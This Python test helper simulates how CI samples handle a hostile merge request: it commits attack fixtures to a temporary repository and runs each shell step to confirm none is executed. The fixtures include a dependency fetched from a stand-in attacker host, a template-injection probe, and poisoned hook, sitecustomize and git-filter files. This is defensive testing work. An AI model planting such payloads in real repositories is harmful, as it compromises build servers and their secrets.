"""The CI samples as their servers run them: every shell step in a clone, a hostile request for a change in hand."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from macros.cli import main

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ("gitlab-ci.yml", "github-actions.yml", "gitea-actions.yml")
SCRIPTS = ("trusted-tree.sh", "without-network.sh")

# What a hostile change brings: each of these leaves a file called «hacked» behind if it is ever run or taken.
_MARK = "import pathlib; (pathlib.Path(__file__).resolve().parent / 'hacked').write_text('x')\n"
HOSTILE = {
    "run.py": _MARK,
    "macros/__init__.py": _MARK,
    "macros/cli.py": _MARK,
    "sitecustomize.py": _MARK,
    "hook.py": _MARK,
    "setup.py": _MARK,
    "mkdocs.yml": "site_name: Чужой\nhooks: [hook.py]\nplugins: []\n",
    "overrides/main.html": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "requirements.lock": "evil-package @ https://evil.example.org/evil.tar.gz\n",
    "pyproject.toml": "[build-system]\nrequires = ['evil-package']\n",
    "ci/trusted-tree.sh": "touch hacked\n",
    "ci/without-network.sh": "touch hacked\n",
    ".gitattributes": "docs/** export-ignore\n* filter=evil\n",
    "preview/index.html": "<p>чужой просмотр</p>",
    "trusted/run.py": _MARK,
}


@dataclass(frozen=True)
class Server:
    """A repository whose main branch holds a whole section; run.py is one that needs no installation."""

    folder: Path

    def git(self, *arguments: str) -> str:
        """Run git there; no identity but the sample's own gets into it."""
        identity = ("-c", "user.name=Редактор", "-c", "user.email=editor@example.org")
        done = subprocess.run(
            ["git", *identity, *arguments], cwd=self.folder, check=True, capture_output=True, text=True
        )
        return done.stdout.strip()

    def commit(self, **files: str) -> None:
        """Commit these files (by path) on top of the present branch."""
        for path, text in files.items():
            (self.folder / path).parent.mkdir(parents=True, exist_ok=True)
            (self.folder / path).write_text(text, encoding="utf-8")
        self.git("add", "-A", "--force")
        self.git("commit", "-qm", "правка")


def make_server(folder: Path) -> Server:
    """A section that `new site` makes, on the branch main; the branch «change» starts there."""
    names = ("--title", "Раздел", "--publisher", "Министерство", "--territory", "Край", "--today", "2025-02-10")
    assert main(["new", "site", str(folder), *names]) == 0
    shutil.rmtree(folder / "macros")  # the real one is used: see run.py
    engine = f"import sys; sys.path.insert(0, {str(ROOT)!r}); from macros.cli import main; sys.exit(main(sys.argv[1:]))"
    (folder / "run.py").write_text(engine + "\n", encoding="utf-8")
    server = Server(folder)
    server.git("init", "-q", "-b", "main")
    server.git("add", "-A")
    server.git("commit", "-qm", "раздел")
    server.git("checkout", "-qb", "change")
    return server


@dataclass(frozen=True)
class Ran:
    """How the steps ended. `trusted` is the tree that was checked; `summary` what a server would show with the job."""

    code: int
    output: str
    preview: Path
    trusted: Path
    clone: Path
    summary: str


def sample(name: str) -> Any:
    """The sample as its server reads it."""
    return yaml.safe_load((ROOT / "ci" / name).read_text("utf-8"))


def run_steps(name: str) -> list[str]:
    """The shell of each step, in order; one for GitLab, which runs its lines in one shell."""
    read = sample(name)
    if name.startswith("gitlab"):
        return ["\n".join(read["check"]["script"])]
    return [step["run"] for step in read["jobs"]["check"]["steps"] if "run" in step]


def run_sample(name: str, server: Server, folder: Path) -> Ran:
    """What the server does with the branch «change»: clone, then the steps until one fails."""
    clone, temp = folder / "clone", folder / "runner-temp"
    temp.mkdir(parents=True)
    checkout = ("--no-checkout",) if name.startswith("gitlab") else ("--branch", "change")
    subprocess.run(["git", "clone", "-q", *checkout, server.folder.as_uri(), str(clone)], check=True)
    subprocess.run(["git", "fetch", "-q", "origin", "change"], cwd=clone, check=True)
    environment = _environment(server, folder, temp)
    output, code = "", 0
    for step in run_steps(name):
        done = subprocess.run(
            ["sh", "-e", "-c", step], cwd=clone, env=environment, capture_output=True, text=True, check=False
        )
        output, code = output + done.stdout + done.stderr, done.returncode
        if code:
            break
    trees = [path.parent for path in (*temp.glob("*/.git"), *temp.glob("*/*/.git"))]
    summary = Path(environment["GITHUB_STEP_SUMMARY"])
    return Ran(
        code,
        output,
        preview=clone / "preview" if name.startswith("gitlab") else temp / "preview",
        trusted=trees[0],
        clone=clone,
        summary=summary.read_text("utf-8") if summary.exists() else "",
    )


def _environment(server: Server, folder: Path, temp: Path) -> dict[str, str]:
    programs = folder / "bin"
    programs.mkdir()
    python = programs / "python3"
    python.write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n', encoding="utf-8")
    python.chmod(python.stat().st_mode | stat.S_IEXEC)
    target, change = server.git("rev-parse", "main"), server.git("rev-parse", "change")
    return os.environ | {
        "PATH": f"{programs}{os.pathsep}{os.environ['PATH']}",
        "TMPDIR": str(temp),
        "RUNNER_TEMP": str(temp),
        "GITHUB_STEP_SUMMARY": str(folder / "summary.md"),
        "TARGET": target,
        "CHANGE": change,
        "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
        "CI_COMMIT_SHA": change,
        "NO_MKDOCS_2_WARNING": "1",
    }
